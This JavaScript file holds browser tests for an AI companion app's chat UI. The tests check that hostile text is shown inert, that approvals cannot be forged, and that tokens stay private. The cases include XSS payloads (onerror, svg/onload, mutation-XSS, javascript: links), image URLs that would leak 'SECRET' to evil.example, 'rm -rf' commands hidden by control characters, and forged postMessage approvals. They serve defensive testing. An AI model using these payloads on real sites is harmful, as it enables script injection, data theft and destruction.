// The cases of testdata/ui.jsonl: text from outside stays text, and nothing but a person's own act answers a question.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { OpenAIStub } from './models.js';
import { GUARD_MS, has, Person, scenario, skipReason, until, useBrowser } from './rig.js';
import { hostPage, serve } from './static-host.js';

useBrowser();

const here = path.dirname(fileURLToPath(import.meta.url));
/** @type {{id: string, title: string, input: any}[]} */
const cases = readFileSync(path.join(here, 'testdata/ui.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line));
const byId = new Map(cases.map((one) => [one.id, one]));
const value = byId.get('U001')?.input.value;
const files = { 'README.md': 'This is the readme.\n' };

/** A service whose every text is hostile. */
const hostile = {
  '.zeroclaw/services/hostile/service.json': JSON.stringify({
    schemaVersion: 1, id: 'hostile', displayName: { en: `Hostile ${value}` }, description: { en: `described ${value}` },
    launch: { executable: process.execPath, args: ['${serviceDir}/server.mjs'] },
    options: [{ id: 'pick', type: 'enum', label: { en: `option ${value}` }, choices: ['a', value] }],
  }),
  '.zeroclaw/services/hostile/server.mjs': readFileSync(path.join(here, 'testdata/hostile-mcp.mjs')),
};

/** Nothing of a text became an element, and nothing ran. @param {Person} me */
async function clean(me) {
  await me.page.waitForTimeout(150);
  assert.deepEqual(await me.page.evaluate(() => ({
    pwned: /** @type {any} */ (globalThis).__pwned,
    elements: [...document.querySelectorAll('[onerror], [onload], script:not([src]), svg, iframe, object, embed, base, style, form[action], meta[http-equiv=refresh], [style]')].map((one) => one.outerHTML.slice(0, 120)),
  })), { pwned: undefined, elements: [] });
}

/** @param {import('./rig.js').Stage} stage */
async function startHostile(stage) {
  await stage.companion.api('POST', '/api/services/hostile/start', {});
  await until(async () => (await stage.companion.api('GET', '/api/services')).services.find((/** @type {any} */ one) => one.id === 'hostile').state === 'running', 'the service runs');
}

/** What a case is tried with, by its number. @type {Record<string, string | ((stage: import('./rig.js').Stage, one: any) => Promise<void>)>} */
const tries = {
  async U001(stage) {
    await startHostile(stage);
    const me = await stage.page({ path: 'settings/tools' });
    await me.page.locator('.tool-name').getByText(value).first().waitFor();
    await me.go('settings/mcp');
    await me.page.locator('.tool-name').getByText(value).first().waitFor();
    await clean(me);
    await me.go('chat');
    const { tools } = await stage.companion.api('GET', '/api/tools');
    const tool = tools.find((/** @type {any} */ one) => one.own_name === value);
    assert.match(tool.name, /^[\w-]{1,64}$/);
    await me.say(`/${tool.name} {}`);
    await me.question(tool.name);
    await clean(me);
  },
  async U002(stage) {
    await startHostile(stage);
    const me = await stage.page({ path: 'settings/tools' });
    await me.page.getByText(`description ${value}`).first().waitFor();
    await me.page.getByText(`title ${value}`).first().waitFor();
    await me.button(/Run mcp_hostile_plain|Run plain/, false).first().click();
    await me.page.locator('.run-panel').getByText(`description ${value}`).waitFor();
    await clean(me);
    await me.go('chat');
    await me.composer.fill('/mcp_hostile');
    await me.page.locator('.suggest').getByText(`description ${value}`).first().waitFor();
    await clean(me);
  },
  async U005(stage) {
    await startHostile(stage);
    const me = await stage.page({ path: 'settings/tools' });
    await me.button(/Run mcp_hostile_plain|Run plain/, false).first().click();
    const panel = me.page.locator('.run-panel');
    await panel.locator('option', { hasText: `enum ${value}` }).waitFor({ state: 'attached' });
    await panel.getByText(`label ${value}`).first().waitFor();
    await panel.locator('select').selectOption({ label: `enum ${value}` });
    await clean(me);
    await panel.getByRole('button', { name: 'Run', exact: true }).click();
    const question = await me.question(`enum ${value}`);
    await clean(me);
    await me.answer(question, 'Allow once');
    await me.page.locator('.run-result').getByText(`result ${value}`).waitFor();
    await clean(me);
  },
  async U006(stage) {
    const me = await stage.page({ path: 'settings/mcp' });
    await me.page.getByRole('heading', { name: `Hostile ${value}` }).waitFor();
    await me.page.getByText(`described ${value}`).waitFor();
    await me.page.getByText(`option ${value}`).waitFor();
    await me.page.locator('option', { hasText: value }).waitFor({ state: 'attached' });
    await clean(me);
    await me.button(`Start Hostile ${value}`).click();
    await me.button(`Stop Hostile ${value}`).waitFor();
    await me.button(`Log of Hostile ${value}`).click();
    await me.page.getByText(`log ${value}`).waitFor();
    await me.page.locator('.svc', { hasText: 'described' }).locator('summary').click();
    await me.page.getByText(`server ${value}`).first().waitFor();
    await clean(me);
  },
  async U008(stage) {
    await startHostile(stage);
    const me = await stage.page();
    await stage.companion.api('PUT', '/api/permissions', { ...(await stage.companion.api('GET', '/api/permissions')), policy: 'allow_all' });
    await me.say('/mcp_hostile_fails {}');
    const fails = await me.finished(`Hostile ${value} · fails`);
    await fails.getByRole('button').first().click();
    await has(fails, /error <img src=x/);
    await me.idle();
    await me.say('/mcp_hostile_breaks {}');
    const breaks = await me.finished(`Hostile ${value} · breaks`);
    await has(breaks, /protocol <img src=x/);
    await me.idle();
    await me.say(`/read_file path="${value}"`);
    await me.finished('read_file');
    await me.idle();
    await me.say(`/${'x'.repeat(10)} path="${value}"`);
    await me.idle();
    await clean(me);
  },
  async U009(stage) {
    const name = '<img src=x onerror=window.__pwned=1>';
    stage.companion.write(name, value);
    const me = await stage.page();
    await stage.companion.api('PUT', '/api/permissions', { ...(await stage.companion.api('GET', '/api/permissions')), directories: ['RW:./**'] });
    await me.say('/list_directory path=.');
    const card = await me.finished('list_directory');
    await card.getByRole('button').first().click();
    await card.locator('td').getByText(name, { exact: true }).waitFor();
    await me.idle();
    await me.say('/search_files query=svg');
    const found = await me.finished('search_files');
    await found.getByRole('button').first().click();
    await has(found, /<svg\/onload/);
    await me.idle();
    await me.say(`/edit_file path="${name}" mode=append content="${value}"`);
    await clean(me);
  },
  async U011(stage) {
    const me = await stage.page({ path: await stage.companion.conversation(`title ${value}`, [
      { role: 'user', data: { text: `asked ${value}` } },
      { role: 'assistant', data: { text: `answered ${value} and **bold**`, reasoning: `thought ${value}`, model: value, error: { message: `failed ${value}` }, calls: [{ id: 'a', call_id: 'c1', tool: value, arguments: { [value]: value } }] } },
      { role: 'tool', data: { call_id: 'c1', tool: value, status: 'error', is_error: true, text: `came ${value}`, reason: `why ${value}` } },
    ]) });
    await me.page.locator('strong', { hasText: 'bold' }).waitFor();
    for (const text of ['asked', 'answered', 'failed', 'why']) await has(me.log, new RegExp(`${text} <img src=x`));
    await me.page.locator('.conv', { hasText: `title ${value}` }).waitFor();
    for (const button of await me.page.locator('.log .line, .log summary').all()) await button.click();
    assert.ok((await me.page.title()).includes('title <img'));
    await me.page.getByRole('searchbox').fill('answered');
    await me.page.locator('.snippet').first().waitFor();
    await clean(me);
  },
  async U013(stage) {
    await startHostile(stage);
    const me = await stage.page();
    await me.say('/mcp_hostile_linked {}');
    await me.answer(await me.question('mcp_hostile_linked'), 'Allow once');
    const card = await me.finished(`Hostile ${value} · linked`);
    await me.idle();
    await card.getByRole('button').first().click();
    await has(card, /text <img src=x/);
    for (const button of await card.getByRole('button', { name: /Open|Show/ }).all()) await button.click();
    assert.equal(await me.page.locator('a[href^="javascript"]').count(), 0);
    await clean(me);
  },
  async U014(stage) {
    await stage.companion.provider('evil', { kind: 'openai', base_url: 'http://127.0.0.1:9/v1', model: value });
    const me = await stage.page({ path: 'settings/providers' });
    await has(me.page.locator('.page'), /<img src=x onerror/);
    await me.button(/^Edit/, false).last().click();
    await clean(me);
    await me.go('chat');
    await me.button(/^Model:/, false).click();
    await me.page.getByRole('menuitemradio', { name: value }).click();
    await me.button(`Model: ${value}`).waitFor();
    await clean(me);
    await me.go('config/providers.evil.model');
    await me.page.locator('.page').waitFor();
    await me.go('settings/permissions');
    await me.page.getByRole('textbox', { name: /Rules/ }).fill(`R:./${value}/**\n${value}`);
    await me.button('Save rules').click();
    await has(me.page.locator('.rules-section'), /must start with R:/);
    await clean(me);
  },
  async U015(stage) {
    await startHostile(stage);
    const me = await stage.page();
    // Mirror shows all that a model would get: whatever is in there of the server's words is text.
    await me.say('hello');
    await me.sees(/"system"/);
    await me.idle();
    await clean(me);
  },
  ...Object.fromEntries(['U016', 'U019', 'U020', 'U021', 'U022'].map((id) => [id, async (/** @type {import('./rig.js').Stage} */ stage, /** @type {any} */ one) => {
    const { markdown } = one.input;
    const address = /\(([^]*)\)$/.exec(markdown)?.[1] ?? '';
    const texts = [markdown, markdown.toUpperCase().replace('WINDOW.__PWNED', 'window.__pwned'), `[x]: <${address.replaceAll('\n', '')}>\n\n[ref][x]`, `<${address}>`, `<a href="${address}">raw</a>`, `[ ![x](${address}) ](${address})`, `[x](\u0001${address})`, `[x](&#x6a;avascript:window.__pwned=1)`, '[good](https://example.org/page) <https://example.org/auto> [mail](mailto:a@example.org)'];
    const me = await stage.page({ path: await stage.companion.conversation('links', texts.map((text) => ({ role: 'assistant', data: { text } }))) });
    await me.page.locator('a', { hasText: 'good' }).waitFor();
    const links = await me.page.evaluate(() => [...document.querySelectorAll('.log .md a')].map((link) => ({ protocol: /** @type {HTMLAnchorElement} */ (link).protocol, target: link.getAttribute('target'), rel: link.getAttribute('rel') })));
    assert.deepEqual([...new Set(links.map(({ protocol }) => protocol))].sort(), ['https:', 'mailto:']);
    for (const link of links) assert.deepEqual([link.target, link.rel], ['_blank', 'noopener noreferrer']);
    await clean(me);
  }])),
  async U024(stage) {
    const texts = ['![x](https://evil.example/?d=SECRET)', '![x][r]\n\n[r]: https://evil.example/r.png', '<img src="https://evil.example/raw.png">', '![x](//evil.example/y.png)', '[![x](https://evil.example/z.png)](https://evil.example)', '![x](http://127.0.0.1:1/a.png)', '![x](/api/status)', '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>', '<link rel=stylesheet href=https://evil.example/s.css><svg><image href="https://evil.example/i.png"/></svg>', 'last'];
    const me = await stage.page({ path: await stage.companion.conversation('images', texts.map((text) => ({ role: 'assistant', data: { text } }))) });
    await me.page.locator('.md', { hasText: /^last/ }).waitFor();
    await me.page.waitForTimeout(500);
    assert.deepEqual(await me.page.evaluate(() => [...document.querySelectorAll('.log img, .log video, .log image')].map((one) => one.outerHTML)), []);
    assert.deepEqual(stage.watch.requests.filter((address) => /evil\.example|127\.0\.0\.1:1\/|\.png/.test(address)), []);
    await clean(me);
  },
  async U025(stage) {
    const texts = ['<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<form action="https://evil.example"><input name=a><button formaction="https://evil.example">b</button></form>', '<style>*{display:none}</style>', '<iframe src="https://evil.example"></iframe>', '<object data="x"></object><embed src="x">', '<p style="position:fixed;inset:0">cover</p>', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style>', '<svg><style><a title="</style><img src=x onerror=window.__pwned=1>">', '<details open ontoggle=window.__pwned=1>x</details>', '<input autofocus onfocus=window.__pwned=1>', '<a id=app href=x>clobber</a><form id=question-1 name=choices></form>', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">', '<template><script>window.__pwned=1</script></template>', '<xmp><img src=x onerror=window.__pwned=1></xmp>', 'last'];
    const me = await stage.page({ path: await stage.companion.conversation('raw', texts.map((text) => ({ role: 'assistant', data: { text } }))) });
    await me.page.locator('.md', { hasText: /^last/ }).waitFor();
    await clean(me);
    assert.deepEqual(await me.page.evaluate(() => [...document.querySelectorAll('.md :is(form, input:not([type=checkbox]), button:not(.btn), iframe, object, embed, details, noscript, template, math, xmp, [id], [name], [autofocus])')].map((one) => one.outerHTML.slice(0, 100))), []);
    assert.ok(await me.composer.isVisible(), 'nothing covers the page');
  },
  async U028(stage) {
    const huge = { line: 'a'.repeat(1 << 20), words: 'word **b** `c` [x](https://example.org) '.repeat(30_000), items: Array.from({ length: 10_000 }, (_, i) => `- item ${i}`).join('\n'), quotes: `${'> '.repeat(500)}deep`, nested: Array.from({ length: 500 }, (_, i) => `${' '.repeat(i * 2)}- x`).join('\n'), stars: '*'.repeat(50_000), brackets: '['.repeat(50_000), table: `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(20_000)}`, code: `\`\`\`js\n${'const a = 1;\n'.repeat(60_000)}\`\`\`` };
    const me = await stage.page();
    await me.page.evaluate(() => {
      /** @type {any} */ (globalThis).tasks = [];
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) /** @type {any} */ (globalThis).tasks.push(Math.round(entry.duration));
      }).observe({ entryTypes: ['longtask'] });
    });
    const slow = [];
    for (const [name, text] of Object.entries(huge)) {
      const where = await stage.companion.conversation(name, [{ role: 'assistant', data: { text } }]);
      // Other work on the machine makes single runs longer than the page makes them: the best of three is the page's own.
      let best = Infinity;
      for (let attempt = 0; attempt < 3 && best >= 200; attempt++) {
        if (attempt) await me.page.reload();
        if (attempt) await me.ready();
        await me.page.evaluate(() => {
          /** @type {any} */ (globalThis).tasks = [];
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) /** @type {any} */ (globalThis).tasks.push(Math.round(entry.duration));
          }).observe({ entryTypes: ['longtask'] });
        });
        await me.go('chat');
        await me.page.locator('.empty').waitFor();
        await me.page.evaluate(() => {
          /** @type {any} */ (globalThis).tasks = [];
        });
        await me.go(where);
        await me.page.locator('.turn').first().waitFor();
        await me.page.waitForTimeout(400);
        best = Math.min(best, Math.max(0, ...(await me.page.evaluate(() => /** @type {any} */ (globalThis).tasks))));
      }
      if (best >= 200) slow.push(`${name} ${best} ms`);
      if (text.length > 100_000) await me.button('Show the rest').first().waitFor();
      console.log(`# ${name}: longest task ${best} ms`);
    }
    assert.deepEqual(slow, []);
  },
  async U029(stage, one) {
    const me = await stage.page({});
    const commands = [one.input.command, `ls${'\n'.repeat(300)}rm -rf x`, `ls ${'\u00a0'.repeat(300)}; rm -rf x`, 'ls \u202e;x fr- mr\u202c', 'l\u200bs \u2066rm\u2069 \u001b[2K\u001b[1A\r rm -rf x', `echo ${'a'.repeat(5000)} ; rm -rf x`];
    for (const command of commands) {
      await me.say(`/execute_command ${JSON.stringify({ command })}`);
      const question = await me.question();
      const box = question.getByRole('group', { name: 'Command' });
      const seen = await box.evaluate((element) => {
        const { scrollWidth, clientWidth } = element;
        return { text: element.textContent ?? '', wide: scrollWidth > clientWidth + 1, hidden: getComputedStyle(element).overflowY === 'hidden' };
      });
      assert.match(seen.text, /rm -rf x|x fr- mr|rm/, 'the tail is there');
      assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b\u001b\r\u00a0]/.test(seen.text), 'control characters are shown as signs');
      assert.ok(!/ {20,}|\n{10,}/.test(seen.text), 'long gaps are shown as signs');
      assert.ok(!seen.wide && !seen.hidden, 'nothing is out of sight to the right');
      // A box that scrolls says so; the end can be brought into view.
      await question.getByText(/\d characters/).waitFor();
      await question.getByRole('button', { name: 'Deny…' }).click();
      await question.getByRole('button', { name: 'Deny', exact: true }).click();
      await me.idle();
    }
  },
  async U030(stage) {
    const me = await stage.page();
    await me.say('/read_file path=README.md');
    await me.composer.pressSequentially('typing 1 2 3\n4\n', { delay: 20 });
    await me.page.keyboard.press('Enter');
    const question = await me.question('README.md');
    await me.page.waitForTimeout(GUARD_MS);
    await me.page.keyboard.press('Enter');
    assert.equal((await stage.companion.api('GET', '/api/approvals')).approvals.length, 1);
    await question.focus();
    await until(async () => /\bask\b/.test((await me.focused()).class), 'the card has the focus');
    await me.page.keyboard.press('Enter');
    assert.equal((await me.focused()).name, 'Deny…');
    assert.equal((await stage.companion.api('GET', '/api/approvals')).approvals.length, 1);
  },
  async U031(stage) {
    const me = await stage.page();
    stage.watch.expected.push(/frame-ancestors|frame-src|Refused to (frame|display)|Framing|the page asked/i);
    const other = await serve((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<!doctype html><iframe src="${stage.companion.url}/"></iframe><iframe src="${stage.companion.url}/index.html" sandbox="allow-scripts allow-same-origin"></iframe><object data="${stage.companion.url}/"></object><embed src="${stage.companion.url}/">`);
    });
    const page = await stage.context.newPage();
    await page.goto(other);
    await page.waitForTimeout(1_000);
    for (const frame of page.frames().slice(1)) assert.equal(await frame.locator('#app').count().catch(() => 0), 0, frame.url());
    await me.page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, stage.companion.url).catch(() => {});
    await me.page.waitForTimeout(500);
    for (const frame of me.page.frames().slice(1)) assert.equal(await frame.locator('.app').count().catch(() => 0), 0, 'not even in a page of its own');
  },
  async U033(stage) {
    const me = await stage.page();
    await me.say('/read_file path=README.md');
    await me.question('README.md');
    const { approvals } = await stage.companion.api('GET', '/api/approvals');
    const other = await serve((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end('<!doctype html><button id=go>go</button>');
    });
    const page = await stage.context.newPage();
    await page.goto(other);
    stage.watch.expected.push(/the page asked/);
    const [popup] = await Promise.all([stage.context.waitForEvent('page'), page.evaluate((address) => {
      /** @type {any} */ (globalThis).target = open(address);
    }, stage.companion.url)]);
    await popup.locator('.app').waitFor();
    await page.evaluate((id) => {
      const { target } = /** @type {any} */ (globalThis);
      for (const message of [{ approve: true }, '{"approve":true}', { type: 'answer', id, decision: 'once' }, { id, decision: 'once' }, { type: 'event', kind: 'question.resolved', data: { id, decision: 'once' } }, { type: 'offer', pairing: { token: 'x', token_id: 'y', server: 'http://127.0.0.1:1' } }, { type: 'stop' }, { type: 'live', id: 'x', live: null }]) target?.postMessage(message, '*');
    }, approvals[0].id);
    await page.waitForTimeout(700);
    assert.equal((await stage.companion.api('GET', '/api/approvals')).approvals.length, 1);
    assert.equal(await me.questions.count(), 1);
    await popup.locator('button.waiting, section.card.ask').first().waitFor();
  },
  async U035(stage) {
    const me = await stage.page();
    const kept = await me.page.evaluate(() => ({ session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie, href: location.href, html: document.documentElement.outerHTML, globals: Object.keys(globalThis).filter((key) => /token|launch|pairing/i.test(key) && key !== 'launchQueue') }));
    const { token } = JSON.parse(kept.session['zc.pairing']);
    assert.match(token, /^[\w-]{40,}$/);
    assert.deepEqual(Object.keys(kept.session), ['zc.pairing']);
    const code = new URL(stage.companion.launch).hash.slice(6);
    for (const [where, text] of Object.entries({ local: JSON.stringify(kept.local), cookie: kept.cookie, href: kept.href, html: kept.html })) {
      assert.ok(!text.includes(token), `the token is in ${where}`);
      assert.ok(!text.includes(code), `the code is in ${where}`);
    }
    assert.deepEqual(kept.globals, []);
    assert.deepEqual(await stage.context.cookies(), []);
    for (const address of stage.watch.requests) assert.ok(!address.includes(token) && !address.replace(/#.*/, '').includes('code='), address);
    // The code is nowhere in the history: going back never brings it again.
    await me.go('settings/about');
    await me.page.goBack();
    await me.page.goBack().catch(() => null);
    assert.ok(!me.page.url().includes('code='));
    const next = await stage.context.newPage();
    await next.goto('about:blank');
    for (const page of stage.pages) await page.close();
    await next.goto(stage.companion.url);
    await next.getByRole('heading', { name: 'Not connected to the companion' }).waitFor();
    assert.deepEqual(await next.evaluate(() => Object.keys(sessionStorage)), [], 'gone with the tab');
  },
  async U037(stage) {
    const stub = await OpenAIStub.start([{ parts: [{ text: 'A private answer.' }] }]);
    await stage.companion.provider('stub', { kind: 'openai', base_url: `${stub.origin}/v1`, model: 'stub-1', api_key: 'sk-private-0123456789abcdefghij' });
    const me = await stage.page();
    await me.button(/^Model:/, false).click();
    await me.page.getByRole('menuitemradio', { name: /stub-1/ }).click();
    await me.say('a private question');
    await me.sees('A private answer.');
    await me.idle();
    await me.go('settings/appearance');
    await me.page.getByText('Dark', { exact: true }).click();
    await me.go('settings/providers');
    await me.page.waitForTimeout(300);
    const left = await me.page.evaluate(async () => ({ local: { ...localStorage }, databases: (await indexedDB.databases()).map(({ name }) => name), caches: await caches.keys(), workers: (await navigator.serviceWorker.getRegistrations()).length }));
    assert.deepEqual(Object.keys(left.local).filter((key) => !['zc.theme', 'zc.lang'].includes(key)), []);
    assert.deepEqual({ ...left, local: null }, { local: null, databases: [], caches: [], workers: 0 });
    assert.ok(!JSON.stringify(left).includes('private'));
  },
  async U038(stage) {
    const me = await stage.page();
    const blocked = /** @type {string[]} */ ([]);
    me.page.on('requestfinished', (request) => {
      if (request.url().includes('evil.example')) blocked.push(request.url());
    });
    const got = await me.page.evaluate(() => new Promise((resolve) => {
      // Code that a test injects is exempt from the policy until its first turn is over.
      setTimeout(() => {
        const out = /** @type {string[]} */ ([]);
        const attempt = (/** @type {string} */ name, /** @type {() => void} */ work) => {
          try {
            work();
            out.push(`${name} passed`);
          } catch (error) {
            out.push(`${name} ${/** @type {Error} */ (error).name}`);
          }
        };
        attempt('eval', () => (0, eval)('globalThis.__pwned = 1'));
        attempt('function', () => new Function('globalThis.__pwned = 1')());
        attempt('timer', () => setTimeout(/** @type {any} */ ('globalThis.__pwned = 1')));
        attempt('html', () => {
          document.body.innerHTML += '<img src=x onerror="globalThis.__pwned = 1">';
        });
        attempt('policy', () => /** @type {any} */ (globalThis).trustedTypes.createPolicy('mine', {}));
        attempt('inline', () => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.__pwned = 1';
          document.head.append(script);
        });
        attempt('remote', () => {
          const script = document.createElement('script');
          script.src = 'https://evil.example/x.js';
          document.head.append(script);
        });
        attempt('handler', () => document.body.setAttribute('onclick', 'globalThis.__pwned = 1'));
        document.body.click();
        fetch('https://evil.example/').then(() => out.push('fetch passed'), () => out.push('fetch refused'));
        const image = new Image();
        image.src = 'https://evil.example/x.png';
        setTimeout(() => resolve(out), 600);
      }, 0);
    }));
    stage.watch.expected.push(/CSP|Content.Security|Trusted|unsafe-eval|violates|the page asked https:\/\/evil/i);
    for (const name of ['eval', 'function', 'html', 'policy', 'remote']) assert.ok(!got.includes(`${name} passed`), `${name}: ${got}`);
    assert.ok(got.includes('fetch refused'), String(got));
    assert.equal(await me.page.evaluate(() => /** @type {any} */ (globalThis).__pwned), undefined);
    assert.deepEqual(blocked, [], 'what was asked for was blocked before it left');
    assert.ok(stage.watch.faults.filter((fault) => fault.startsWith('CSP')).length >= 5, 'each was a violation');
    const answer = await fetch(stage.companion.url);
    const policy = answer.headers.get('content-security-policy') ?? '';
    for (const part of ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'"]) assert.ok(policy.includes(part), part);
  },
  async U040(stage) {
    const { companion } = stage;
    const origin = stage.options.origins?.[0] ?? '';
    await companion.api('POST', '/api/ui', { origin, confirmed: true });
    const page = await stage.context.newPage();
    // A browser sends a request that is under way again by itself when its socket breaks: none may be.
    const followed = page.waitForResponse((response) => response.url().endsWith('/api/events'));
    await page.goto(await companion.address());
    await page.locator('.app').waitFor();
    await followed;
    await page.waitForTimeout(500);
    const { token } = JSON.parse(await page.evaluate(() => sessionStorage.getItem('zc.pairing') ?? '{}'));
    const { port } = companion;
    await companion.end('SIGKILL');
    const seen = /** @type {{line: string, authorization: string, body: string}[]} */ ([]);
    await serve((request, response) => {
      let body = '';
      request.on('data', (data) => {
        body += data;
      });
      request.on('end', () => {
        seen.push({ line: `${request.method} ${request.url}`, authorization: request.headers.authorization ?? '', body });
        response.writeHead(200, { 'Access-Control-Allow-Origin': origin, 'Access-Control-Allow-Headers': '*, Authorization, Content-Type, Last-Event-ID', 'Access-Control-Allow-Methods': '*', 'Content-Type': 'application/json' });
        response.end(request.url === '/api/prove' ? JSON.stringify({ proof: '0'.repeat(64) }) : '{}');
      });
    }, port);
    // The open page comes back to what it takes for the companion; then it is loaded anew.
    await until(() => seen.some(({ line }) => line.startsWith('POST /api/prove')), 'the page asks for the proof', 30_000);
    await page.waitForTimeout(1_000);
    await page.reload();
    await page.locator('main.gate').waitFor();
    await page.waitForTimeout(1_000);
    assert.deepEqual(seen.filter(({ authorization, body }) => authorization || body.includes(token)), []);
    stage.watch.expected.push(/./);
  },
  U043: 'in tabs.test.js, where the companion is killed under a question',
};

const external = await hostPage();
let skipped = 0;
for (const one of cases) {
  const name = `${one.id}: ${one.title}`;
  const attempt = tries[one.id];
  if (!attempt) {
    test(name, { skip: skipReason || false }, () => assert.fail('nothing tries this case'));
  } else if (typeof attempt === 'string') {
    skipped++;
    test(name, { skip: attempt }, () => {});
  } else {
    scenario(name, { files, home: hostile, timeout: 180_000, ...(one.id === 'U040' ? { args: ['--ui', external], origins: [external] } : {}) }, (stage) => attempt(stage, one));
  }
}
test(`of ${cases.length} cases ${cases.length - skipped} are tried here and ${skipped} elsewhere`, () => {
  assert.ok(cases.length >= 27);
  assert.match(readFileSync(path.join(here, 'tabs.test.js'), 'utf8'), /U043/);
});

scenario('hostile markdown as it streams, cut anywhere', { files, timeout: 120_000 }, async (stage) => {
  const texts = cases.map(({ input }) => input.value ?? input.markdown).filter((text) => typeof text === 'string' && text !== 'huge' && text !== 'raw HTML variants');
  const stub = await OpenAIStub.start([{ parts: [{ text: `${[...new Set(texts)].join('\n\n')}\n\nthe end` }] }]);
  await stage.companion.provider('stub', { kind: 'openai', base_url: `${stub.origin}/v1`, model: 'stub-1' });
  const me = await stage.page();
  await me.button(/^Model:/, false).click();
  await me.page.getByRole('menuitemradio', { name: /stub-1/ }).click();
  await me.say('show me');
  await me.sees('the end');
  await me.idle();
  assert.deepEqual(await me.page.evaluate(() => [...document.querySelectorAll('.log .md img, .log .md a:not([href^=https])')].map((one) => one.outerHTML)), []);
  assert.deepEqual(stage.watch.requests.filter((address) => address.includes('evil.example')), []);
  await clean(me);
});
